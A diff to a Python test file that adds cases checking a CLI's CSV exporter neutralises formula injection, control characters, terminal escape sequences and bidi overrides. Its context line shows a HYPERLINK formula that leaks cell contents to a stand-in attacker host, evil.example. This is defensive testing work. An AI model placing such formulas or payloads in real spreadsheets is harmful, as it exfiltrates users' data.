@@ -23,8 +23,20 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
         ("+1+1", "'+1+1"),
         ("-2", "'-2"),
         ("@SUM(A1)", "'@SUM(A1)"),
-        ("\tx", "'\tx"),
-        ("\rx", "'\rx"),
+        ("\tx", "'\\tx"),
+        ("\rx", "'\\rx"),
+        (" =1+1", "' =1+1"),
+        ("\n=1+1", "'\n=1+1"),
+        ("\u3000=1", "'\\u3000=1"),
+        ("\uff1dHYPERLINK()", "'\uff1dHYPERLINK()"),
+        ("\uff0b1", "'\uff0b1"),
+        ("\uff0d1", "'\uff0d1"),
+        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
+        ("a\x1b[2Jb\x07", "a\\x1b[2Jb\\x07"),
+        ("nul\x00", "nul\\x00"),
+        ("c1\x9b31m", "c1\\x9b31m"),
+        ("bidi\u202egnp.exe", "bidi\\u202egnp.exe"),
+        ("line\nbreak", "line\nbreak"),
         ("plain = fine", "plain = fine"),
         (None, ""),
         (True, "true"),
@@ -35,6 +47,25 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
 )
 def test_csv_cells_are_defused_and_plain(value: object, cell: str) -> None:
     assert csv_cell(value) == cell
+
+
+def test_a_csv_cell_never_carries_a_control_character_but_the_line_feed() -> None:
+    hostile = "".join(map(chr, [*range(0x20), 0x7F, *range(0x80, 0xA0), 0x202A, 0x202E, 0x2066, 0x2069]))
+    cell = csv_cell("x" + hostile)
+    assert all(ch.isprintable() or ch == "\n" for ch in cell)
+    assert cell.count("\n") == 1
+
+
+def test_json_does_not_render_the_table(cli: Cli, api: FakeAPI, monkeypatch: pytest.MonkeyPatch) -> None:
+    api.seed(name="x" * 10_000)
+
+    def no_table(*args: object) -> str:
+        raise AssertionError("the table was rendered for --json")
+
+    monkeypatch.setattr("geekai_admin.cli.output.text.keys_table", no_table)
+    result = cli("--json", "keys", "list")
+    assert result.code == 0
+    assert result.json()["keys"][0]["name"] == "x" * 10_000
 
 
 def test_the_formats_the_parser_offers_are_the_ones_rendered() -> None:
